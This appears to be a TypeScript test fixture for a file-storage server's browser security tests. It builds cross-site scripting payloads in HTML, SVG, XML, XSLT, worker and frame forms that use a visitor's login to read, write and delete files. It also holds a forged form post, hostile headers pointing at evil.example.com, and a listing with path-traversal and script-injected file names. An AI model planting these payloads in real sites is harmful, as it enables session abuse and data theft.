/** What a neighbour puts into its storage, or behind its path, to act with a visitor's login. */

const tries = (vault: string, base: string, tell: string) => `(async () => {
    const got = [];
    for (const [method, name] of [["GET", "secret.txt"], ["PUT", "planted.txt"], ["DELETE", "victim.txt"]]) {
      try {
        const body = method === "PUT" ? "x" : undefined;
        const answer = await fetch(${base} + "${vault}" + name, { method, credentials: "include", body });
        got.push(answer.status + " " + (method === "GET" ? (await answer.text()).trim() : ""));
      } catch { got.push("failed"); }
    }
    ${tell}(got.join(","));
  })();`;

const note = '((said) => document.documentElement.setAttribute("data-got", said))';

/** What a page does with a visitor's login: reads, writes and deletes in the team's storage, and notes what came of it. */
export const attack = (vault: string) => tries(vault, "location.origin", note);

/** The same by a worker. */
const byWorker = (vault: string) =>
  `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(tries(vault, "self.origin", "postMessage"))}])))
    .onmessage = ({ data }) => ${note}(data);`;

/** The same through the window of a frame that shows one of the team's files. */
const byFrame = (vault: string) =>
  `const frame = document.createElement("iframe");
    frame.onload = () => { const fetch = (...request) => frame.contentWindow.fetch(...request); ${attack(vault)} };
    frame.src = "${vault}secret.txt";
    document.body.append(frame);`;

/** A form that a visitor is talked into sending. */
export const formPage = (vault: string) =>
  `<!doctype html><form method="post" enctype="text/plain" action="${vault}planted.txt"><input name="a" value="x"><button>Show all</button></form>`;

/** A style sheet that makes a page with a program out of any XML. */
export const styleSheet = (vault: string) =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${attack(vault).replaceAll("&", "&amp;").replaceAll("<", "&lt;")}</script></body></html></xsl:template></xsl:stylesheet>`;

/** Every header with which one answer could set something for all storages, and a policy that allows all. */
export const hostileHeaders = ({ origin }: { readonly origin: string }) => ({
  "content-type": "text/html",
  "content-security-policy": "default-src * 'unsafe-inline'",
  "set-cookie": "planted=1; Path=/",
  "service-worker-allowed": "/",
  "clear-site-data": '"*"',
  "strict-transport-security": "max-age=1000",
  "alt-svc": 'h2="evil.example.com:443"',
  nel: '{"report_to":"r","max_age":1000}',
  "report-to": '{"group":"r","max_age":1000,"endpoints":[{"url":"https://evil.example.com"}]}',
  "reporting-endpoints": 'r="https://evil.example.com"',
  refresh: `0; url=${origin}/`,
  link: "<https://evil.example.com/>; rel=preload",
  "access-control-allow-origin": "*",
  "use-as-dictionary": 'match="/*"',
  "x-powered-by": "the neighbour",
});

export const hostileListing = (team: string, vault: string) => ({
  kind: "Index",
  uri_prefix: `/storage/${team}/${vault}/`,
  allow_upload: true,
  allow_delete: true,
  allow_search: true,
  allow_archive: true,
  dir_exists: true,
  user: "<img src=x onerror=\"document.documentElement.setAttribute('data-got','ran')\">",
  paths: [
    `../../../${team}/${vault}/victim.txt`,
    `/storage/${team}/${vault}/victim.txt`,
    "..",
    "javascript:document.documentElement.setAttribute('data-got','ran')",
    "<script>document.documentElement.setAttribute('data-got','ran')</script>",
  ].map((name) => ({ path_type: "File", name, mtime: 0, size: 1 })),
});

const xhtml = "http://www.w3.org/1999/xhtml";
/** Name, file and content of each kind of page that runs a program. */
export const attackPages: [string, string, (vault: string) => string][] = [
  [
    "HTML",
    "page.html",
    (vault) => `<!doctype html><html><body>x<script>${attack(vault)}</script></body></html>`,
  ],
  [
    "SVG",
    "page.svg",
    (vault) => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${attack(vault)}]]></script></svg>`,
  ],
  [
    "XHTML",
    "page.xhtml",
    (vault) =>
      `<html xmlns="${xhtml}"><head><title>x</title></head><body><script><![CDATA[${attack(vault)}]]></script></body></html>`,
  ],
  [
    "XML with a script in it",
    "page.xml",
    (vault) => `<r><script xmlns="${xhtml}"><![CDATA[${attack(vault)}]]></script></r>`,
  ],
  [
    "an event of an element",
    "event.html",
    (vault) => `<img src="x" onerror="${attack(vault).replaceAll('"', "&quot;")}">`,
  ],
  ["a worker", "worker.html", (vault) => `<html><body>x<script>${byWorker(vault)}</script></body></html>`],
  ["a frame", "frame.html", (vault) => `<!doctype html><body>x<script>${byFrame(vault)}</script></body>`],
  [
    "XML with a style sheet",
    "styled.xml",
    () => '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><r/>',
  ],
  [
    "a page without a file extension",
    "page",
    (vault) => `<!doctype html><html><script>${attack(vault)}</script></html>`,
  ],
];

/** Harmless files, which a browser should show. */
export const shown = {
  "plain.txt": "words\n",
  "dot.svg":
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="20" height="20"/></svg>',
  "note.pdf":
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
};
